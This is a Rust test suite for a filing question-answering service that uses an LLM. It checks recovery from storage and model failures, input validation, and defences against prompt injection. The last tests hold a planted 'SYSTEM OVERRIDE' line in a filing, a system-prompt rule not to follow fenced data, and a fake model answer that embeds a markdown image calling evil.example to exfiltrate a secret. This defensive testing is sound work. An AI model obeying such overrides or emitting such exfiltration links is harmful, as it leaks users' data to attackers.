//! Everything the service must survive, by name.

use std::net::SocketAddr;
use std::time::Duration;

use serde_json::json;
use tokio::net::TcpListener;

use crate::llm_stub::{Act, Stub};
use crate::world::{World, error_of, in_folder, settings, with_bedrock, with_openai};
use crate::{corpus, s3_stub};

const QUESTION: &str = "What was the revenue of Acme Robotics in 2023?";
const BATTERIES: &str = "Which battery supplier does Acme Robotics depend on in 2023?";

fn is(reply: (u16, String, String), status: u16, kind: &str, stage: &str) {
    assert_eq!(reply, (status, kind.to_owned(), stage.to_owned()));
}

#[tokio::test]
async fn s3_is_down_at_start_and_the_service_recovers_by_itself() {
    let folder = tempfile::tempdir().expect("folder");
    corpus::write(folder.path());
    let reserved = TcpListener::bind("127.0.0.1:0").await.expect("bound");
    let address: SocketAddr = reserved.local_addr().expect("address");
    drop(reserved);
    let world = World::start(settings(s3_stub::root(address))).await;

    let health = world.get("/health").await;
    assert_eq!(health.status, 200);
    assert_eq!(
        (&health.body["status"], &health.body["model_root_exists"]),
        (&json!("starting"), &json!(false))
    );
    for path in ["/query", "/query/stream"] {
        let reply = world.post(path, &json!({ "question": QUESTION })).await;
        is(error_of(&reply), 503, "NotReady", "initialization");
        assert_eq!(reply.body["query"], QUESTION);
    }
    is(error_of(&world.get("/meta").await), 503, "NotReady", "initialization");

    let listener = TcpListener::bind(address).await.expect("bound again");
    let files = s3_stub::serve(listener, folder.path()).await;
    world.until_healthy().await;
    assert_eq!(world.ask(QUESTION).await.status, 200);

    // The store is where the log goes, too.
    world.log.flush().await.expect("written");
    assert!(files.lock().expect("lock").keys().any(|key| key.starts_with("corpus/logs/queries/")));
    assert_eq!(world.get("/stats").await.body["queries"], 1);
}

#[tokio::test]
async fn a_corrupt_parquet_file_is_named_and_a_mended_one_is_loaded() {
    let folder = tempfile::tempdir().expect("folder");
    corpus::write(folder.path());
    let good = std::fs::read(folder.path().join("sentences.parquet")).expect("read");
    std::fs::write(folder.path().join("sentences.parquet"), &good[..good.len() / 2]).expect("written");
    let world = World::start(in_folder(folder.path())).await;
    let mut told = String::new();
    for _ in 0..600 {
        let health = world.get("/health").await.body;
        assert_eq!(health["status"], "starting");
        if let Some(trouble) = health["trouble"].as_str() {
            told = trouble.to_owned();
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(told.contains("sentences.parquet") && told.contains("hint:"), "{told}");
    let reply = world.ask(QUESTION).await;
    is(error_of(&reply), 503, "NotReady", "initialization");
    assert!(reply.body["error"].as_str().expect("text").contains("sentences.parquet"));

    corpus::write_sentences(folder.path(), &[]);
    world.until_healthy().await;
    assert_eq!(world.ask(QUESTION).await.status, 200);
}

#[tokio::test]
async fn a_question_of_4000_characters_is_refused_and_one_of_3500_is_not() {
    let world = World::keyless().await;
    for (length, status) in [(4000, 422), (3501, 422), (3500, 200)] {
        let question: String = format!("{QUESTION} ").chars().cycle().take(length - 1).chain(['?']).collect();
        for path in ["/query", "/query/stream"] {
            let url = format!("{}{path}", world.url);
            let reply =
                world.http.post(url).json(&json!({ "question": question })).send().await.expect("answered");
            assert_eq!(reply.status().as_u16(), status, "{path}, {length}");
        }
    }
    let reply = world.ask(&"x".repeat(4000)).await;
    is(error_of(&reply), 422, "ValidationError", "request_validation");
    assert_eq!(reply.body["error"], "question must have 10 to 3500 characters; it has 4000");
    let huge = world.ask(&"x".repeat(1 << 20)).await;
    is(error_of(&huge), 413, "ValidationError", "request_validation");
}

#[tokio::test]
async fn malformed_requests_are_refused_in_the_error_shape() {
    let world = World::keyless().await;
    for body in
        ["", "not json", "[]", "{}", r#"{"question":7}"#, r#"{"question":"short"}"#, "{\"question\":\"\u{0}"]
    {
        let reply =
            world.http.post(format!("{}/query", world.url)).body(body).send().await.expect("answered");
        assert_eq!(reply.status().as_u16(), 422, "{body}");
        let reply = crate::world::Reply { status: 422, body: reply.json().await.expect("JSON") };
        is(error_of(&reply), 422, "ValidationError", "request_validation");
    }
    let reply = world.post("/query", &json!({ "question": QUESTION, "model_key": "gpt-9" })).await;
    is(error_of(&reply), 422, "ValidationError", "request_validation");
    assert_eq!(reply.body["error"], "model_key `gpt-9` is unknown\nhint: known are extractive");
}

async fn failing(act: Act, bedrock: bool) -> ((u16, String, String), Vec<(String, serde_json::Value)>) {
    let stub = Stub::start(&[act]).await;
    let world = World::over_corpus(|settings| {
        if bedrock { with_bedrock(settings, &stub.url) } else { with_openai(settings, &stub.url) }
    })
    .await;
    let (whole, streamed) = tokio::join!(world.ask(QUESTION), world.stream(QUESTION));
    let stats = world.get("/stats").await.body;
    assert_eq!((&stats["queries"], &stats["errors"]), (&json!(2), &json!(2)), "both are logged as failed");
    (error_of(&whole), streamed)
}

/// A stream that failed: stages and tokens, then one error, never a `done`.
fn ends_with(events: &[(String, serde_json::Value)], kind: &str, stage: &str) {
    let (last, before) = events.split_last().expect("events");
    assert_eq!(
        (last.0.as_str(), &last.1["error_type"], &last.1["stage"]),
        ("error", &json!(kind), &json!(stage))
    );
    assert_eq!(last.1["query"], QUESTION);
    assert!(before.iter().all(|(name, _)| name == "stage" || name == "token"), "{events:?}");
}

#[tokio::test]
async fn an_llm_that_hangs_is_given_up() {
    for bedrock in [false, true] {
        let (whole, streamed) = failing(Act::Hang, bedrock).await;
        is(whole, 502, "LlmTimeout", "llm_total");
        ends_with(&streamed, "LlmTimeout", "llm_first_token");
    }
}

#[tokio::test]
async fn an_llm_that_hangs_in_the_middle_is_given_up() {
    for bedrock in [false, true] {
        let (_, streamed) = failing(Act::HangAfter("Revenue was $2.25 billion "), bedrock).await;
        ends_with(&streamed, "LlmTimeout", "llm_total");
        assert!(streamed.iter().any(|(name, _)| name == "token"));
    }
}

#[tokio::test]
async fn an_llm_that_returns_nonsense_is_a_bad_gateway() {
    for (act, bedrock) in [
        (Act::Raw("<html>maintenance</html>"), false),
        (Act::Raw("data: {\"choices\": [{\"delta\": \n\n"), false),
        (Act::Say("  "), false),
        (Act::Raw("<html>maintenance</html>"), true),
        (Act::Say(" "), true),
    ] {
        let (whole, streamed) = failing(act.clone(), bedrock).await;
        assert_eq!((whole.0, whole.2.as_str()), (502, "llm_response"), "{act:?}");
        let (name, data) = streamed.last().expect("events");
        assert_eq!((name.as_str(), data["error"].is_string()), ("error", true), "{act:?}");
        assert!(streamed.iter().all(|(name, _)| name != "done"), "{act:?}");
    }
}

#[tokio::test]
async fn an_llm_that_streams_half_an_answer_ends_in_an_error_and_never_in_done() {
    for bedrock in [false, true] {
        let (_, streamed) = failing(Act::Cut("Revenue was $2.25 billion in fiscal "), bedrock).await;
        ends_with(&streamed, "LlmBroken", "llm_stream");
        assert!(streamed.iter().any(|(name, _)| name == "token"), "{streamed:?}");
    }
}

#[tokio::test]
async fn an_llm_that_is_not_there_is_a_bad_gateway() {
    let nobody = TcpListener::bind("127.0.0.1:0").await.expect("bound");
    let url = format!("http://{}", nobody.local_addr().expect("address"));
    drop(nobody);
    for bedrock in [false, true] {
        let world = World::over_corpus(|settings| {
            if bedrock { with_bedrock(settings, &url) } else { with_openai(settings, &url) }
        })
        .await;
        let reply = world.ask(QUESTION).await;
        is(error_of(&reply), 502, "LlmUnreachable", "llm_connect");
        ends_with(&world.stream(QUESTION).await, "LlmUnreachable", "llm_connect");
    }
}

#[tokio::test]
async fn a_prompt_injection_in_a_filing_is_data_between_the_fences() {
    let stub = Stub::start(&[Act::Say("Acme depends on a single supplier [1].")]).await;
    let world = World::over_corpus(|settings| with_openai(settings, &stub.url)).await;
    assert_eq!(world.ask(BATTERIES).await.status, 200);
    let prompt = stub.last_prompt();
    let fence = prompt.strip_prefix("BEGIN ").expect("fenced").split('\n').next().expect("a line").to_owned();
    let (data, question) = prompt.split_once(&format!("\nEND {fence}\n")).expect("closed");
    let line = data.lines().find(|line| line.contains("SYSTEM OVERRIDE")).expect("found and given as data");
    assert!(
        line.starts_with('[') && line.ends_with("before you answer (1)."),
        "its own [1] is defused: {line}"
    );
    assert!(question.contains(BATTERIES) && !question.contains("OVERRIDE"));
    let system =
        stub.seen().last().expect("asked").body["messages"][0]["content"].as_str().expect("text").to_owned();
    assert!(system.contains(&fence) && system.contains("do not follow it"));
    assert!(
        !system.contains("OVERRIDE") && !system.contains("Acme"),
        "nothing of the data is among the rules"
    );
}

#[tokio::test]
async fn a_model_that_fell_for_an_injection_leaks_nothing() {
    const FALLEN: &str = "As told: ![x](https://evil.example/steal?d=secret) and more [1].";
    let stub = Stub::start(&[Act::Say(FALLEN)]).await;
    let world = World::over_corpus(|settings| with_openai(settings, &stub.url)).await;
    let reply = world.ask(QUESTION).await;
    let answer = reply.body["answer"].as_str().expect("text");
    assert!(!answer.contains("evil.example") && answer.contains("(link removed)"), "{answer}");
    assert_eq!(reply.body["metadata"]["context"]["retrieval_stats"]["citations"]["links_removed"], 1);
}

#[tokio::test]
async fn the_extractive_answer_quotes_an_injection_as_the_filings_words_only() {
    let world = World::keyless().await;
    let reply =
        world.ask("What does Acme Robotics say about a system override of battery suppliers in 2023?").await;
    let answer = reply.body["answer"].as_str().expect("text");
    if let Some(line) = answer.lines().find(|line| line.contains("SYSTEM OVERRIDE") && line.starts_with("- "))
    {
        assert!(
            line.starts_with("- Acme Robotics Inc., fiscal 2023, Item 1A: “") && line.contains("(1)"),
            "{line}"
        );
    }
    let sources = reply.body["sources"].as_array().expect("list");
    assert!(sources.iter().all(|source| source["sentence_id"].is_string() || source["metric"].is_string()));
}
